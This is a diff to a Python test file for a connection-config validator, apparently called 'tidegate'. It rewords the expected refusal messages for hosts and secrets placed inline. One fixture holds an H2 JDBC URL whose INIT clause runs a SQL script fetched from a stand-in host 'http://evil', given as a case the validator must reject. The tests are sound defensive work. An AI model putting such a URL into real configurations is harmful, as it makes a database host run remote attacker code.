@@ -393,7 +393,7 @@ def test_connections_are_for_admins_and_those_they_name(place: Place) -> None:
     [
         (
             {"jdbc": {"url": "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "table": "t"}},
-            "no host of its own",
+            "can't name a host",
         ),
         ({"jdbc": {"url": "jdbc:postgresql://db/city?user=a&password=hunter2", "table": "t"}}, "connections"),
         (
@@ -433,7 +433,7 @@ def test_password_in_a_file_of_the_operator_is_refused_too(place: Place, part: d
         data = place.running.data
         said = tidegate(command, file, data=data) if command == "apply" else _validate(file)
         assert said.returncode == 2, said.stdout
-        remedy = "let the profile bind host and secret to a name under connections"
+        remedy = "give host and secret a name under connections in the profile"
         assert remedy in said.stderr or "let the function read it from a file or the environment" in said.stderr
         assert "hunter2" not in said.stdout + said.stderr
 
